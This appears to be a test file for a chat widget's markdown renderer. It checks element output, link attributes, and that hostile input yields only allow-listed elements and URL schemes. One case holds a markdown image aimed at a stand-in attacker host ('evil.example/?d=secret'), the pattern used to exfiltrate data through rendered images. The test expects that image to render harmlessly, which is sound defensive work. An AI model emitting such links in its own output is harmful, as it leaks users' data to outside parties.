import fc from 'fast-check'
import { type ComponentChild, isValidElement, type VNode } from 'preact'
import { expect, test } from 'vitest'
import { parseMarkdown, parsePlain } from '../../shared/markdown.ts'
import { drawBlocks } from '../../widget/chat/view/formatted.tsx'
import { words } from '../../widget/chat/words/en.ts'
import { hostileTexts } from '../support/hostile.ts'

type Element = VNode<{ href?: string; children?: ComponentChild }>

const childrenOf = (node: Element): ComponentChild[] => [node.props.children].flat(Number.POSITIVE_INFINITY)

/** Nodes as a browser would write them, without attributes but the address of a link. */
function written(nodes: ComponentChild[]): string {
  return nodes
    .map((node) => {
      if (!isValidElement(node)) return typeof node === 'string' ? node : ''
      const { type, props } = node as Element
      const address = props.href === undefined ? '' : ` ${props.href}`
      return `<${String(type)}${address}>${written(childrenOf(node as Element))}</${String(type)}>`
    })
    .join('')
}

const draw = (text: string) => drawBlocks(parseMarkdown(text), words) as ComponentChild[]

/** Every element, however deep it is. */
const elementsIn = (nodes: ComponentChild[]): Element[] =>
  nodes.filter(isValidElement).flatMap((node) => [node as Element, ...elementsIn(childrenOf(node as Element))])

const known = new Set(
  'p br strong em del code a span pre button hr label input ul ol li blockquote div table thead tbody tr th td'.split(
    ' ',
  ),
)

test.each([
  ['a **b** _c_ `d*`', '<p>a <strong>b</strong> <em>c</em> <code>d*</code></p>'],
  ['one\ntwo\n\nthree', '<p>one<br></br>two</p><p>three</p>'],
  ['# A\n> b', '<p>A</p><blockquote><p>b</p></blockquote>'],
  ['- a\n  - b\n- c', '<ul><li>a<ul><li>b</li></ul></li><li>c</li></ul>'],
  ['3. a\n4. b', '<ol><li>a</li><li>b</li></ol>'],
  ['```js\n<b>\n```', '<div><pre><code><b></code></pre><button>Copy</button></div>'],
  ['~~a~~ b\n\n---\n\nc', '<p><del>a</del> b</p><hr></hr><p>c</p>'],
  [
    '- [ ] a\n- [x] **b**',
    '<ul><li><label><input></input> a</label></li><li><label><input></input> <strong>b</strong></label></li></ul>',
  ],
  [
    '| x | y |\n|--|--|\n| 1 | 2 |',
    '<div><table><thead><tr><th>x</th><th>y</th></tr></thead><tbody><tr><td>1</td><td>2</td></tr></tbody></table></div>',
  ],
  ['![a shoe](https://evil.example/?d=secret)', '<p><span>[a shoe]</span></p>'],
])('the widget draws %j', (text, expected) => {
  expect(written(draw(text))).toBe(expected)
})

test('links open beside the page and tell nothing of it; telephones are dialled where they are', () => {
  const [web, telephone] = elementsIn(draw('[a](https://b.example) or +441632960123')).filter(
    ({ type }) => type === 'a',
  )
  expect(web?.props).toMatchObject({ target: '_blank', rel: 'noopener noreferrer nofollow' })
  expect(telephone?.props).toMatchObject({ href: 'tel:+441632960123', target: undefined })
})

test('the outermost blocks alone have a direction', () => {
  const nested = elementsIn(draw('> a\n\n- b\n  - c')).map(({ type, props }) => [type, 'dir' in props && props.dir])
  expect(nested.filter(([type]) => type !== 'li')).toEqual([
    ['blockquote', 'auto'],
    ['p', undefined],
    ['ul', 'auto'],
    ['ul', undefined],
  ])
})

test('[threat 3] whatever is written becomes known elements and nothing else', () => {
  const check = (nodes: ComponentChild[]) => {
    for (const { type, props } of elementsIn(nodes)) {
      expect(known).toContain(type)
      expect(props).not.toHaveProperty('dangerouslySetInnerHTML')
      if (props.href !== undefined)
        expect(['http:', 'https:', 'mailto:', 'tel:']).toContain(new URL(props.href).protocol)
    }
  }
  for (const text of hostileTexts) {
    check(draw(text))
    check(drawBlocks(parsePlain(text), words) as ComponentChild[])
  }
  const bits = '* ** _ ~~ --- [x] ` [ ] ( ) ![ ]( | -- \\ 0 @ <b> a@b.c https://a.b'
    .split(' ')
    .concat('> ', '- ', '1. ', '\n', 'a ', '+49 ')
  fc.assert(fc.property(fc.array(fc.constantFrom(...bits), { maxLength: 200 }), (parts) => check(draw(parts.join('')))))
})
